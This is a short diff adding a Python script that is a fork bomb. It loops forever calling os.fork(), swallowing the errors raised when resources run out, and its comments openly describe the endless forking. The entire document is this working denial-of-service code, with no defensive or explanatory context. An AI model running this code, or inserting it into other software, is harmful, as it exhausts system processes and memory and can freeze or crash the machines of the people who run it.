@@ -1,0 +1,9 @@
+# Forks without end.
+# note: processes|ended|in time
+# %% end
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
